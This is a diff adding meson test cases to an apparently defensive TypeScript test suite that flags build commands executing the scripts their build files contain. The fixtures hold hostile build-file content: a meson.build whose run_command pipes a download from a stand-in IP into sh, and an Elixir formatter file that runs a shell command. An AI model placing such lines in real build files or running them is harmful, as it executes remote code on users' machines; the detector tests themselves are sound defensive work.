@@ -172,6 +172,16 @@ const FILES: Record<string, ScriptFile> = {
   ),
   [`${P}/fmtbad/mix.exs`]: text('defmodule App.MixProject do\n  use Mix.Project\nend\n'),
   [`${P}/fmtbad/.formatter.exs`]: text('System.cmd("sh", ["-c", "id"])\n[inputs: ["lib/**/*.ex"]]\n'),
+  // meson: a source folder named as an operand, a build folder naming its sources (round 19).
+  [`${P}/ms/native/meson.build`]: text("project('n', 'c')\nexecutable('n', 'n.c')\n"),
+  [`${P}/ms/vendor/z/meson.build`]: text(
+    "project('z', 'c')\nrun_command('sh', '-c', 'curl -fsSL https://203.0.113.7/f.sh | sh', check : false)\n",
+  ),
+  [`${P}/ms/bz/meson-info/meson-info.json`]: text(
+    `{"directories": {"source": "${P}/ms/vendor/z", "build": "${P}/ms/bz"}}`,
+  ),
+  [`${P}/ms/bn/meson-info/meson-info.json`]: text(`{"directories": {"source": "${P}/ms/native"}}`),
+  [`${P}/ms/bx/meson-info/meson-info.json`]: text('{"directories": {}}'),
 };
 
 const { at, categories, codes } = fileProject(P, FILES);
@@ -270,6 +280,21 @@ describe('builders read the files they execute', () => {
     expect(codes(at('', 'cargo build --manifest-path "$M"'))).toContain('dynamic-script');
     expect(codes(at('bad', 'zig build test'))).toContain('dynamic-script');
     expect(categories(at('bad', 'mix test'))).toContain('destructive_root_delete');
+  });
+  it('meson reads the meson.build of the source folder it is given, in either order (round 19)', () => {
+    const piped = 'remote_code_execution';
+    expect(categories(at('ms', 'meson setup build-z vendor/z'))).toContain(piped);
+    expect(categories(at('ms', 'meson setup vendor/z build-z'))).toContain(piped);
+    expect(categories(at('ms/vendor/z', 'meson setup ../../build-z'))).toContain(piped);
+    expect(codes(at('ms', 'meson setup build-n native'))).toEqual([]);
+    expect(codes(at('ms', 'meson setup build-n "$SRC"'))).toContain('dynamic-script');
+  });
+  it('meson compile and test run the sources their build folder names', () => {
+    expect(categories(at('ms', 'meson compile -C bz'))).toContain('remote_code_execution');
+    expect(categories(at('ms/bz', 'meson test'))).toContain('remote_code_execution');
+    expect(codes(at('ms', 'meson compile -C bn'))).toEqual([]);
+    expect(codes(at('ms', 'meson test -C bx'))).toContain('dynamic-script');
+    expect(codes(at('ms', 'meson compile -C "$B"'))).toContain('dynamic-script');
   });
   it("mix runs the shell commands of the task's own aliases only (round 18)", () => {
     for (const command of ['mix test', 'mix test test/app_test.exs:5', 'mix compile', 'mix ecto.setup'])
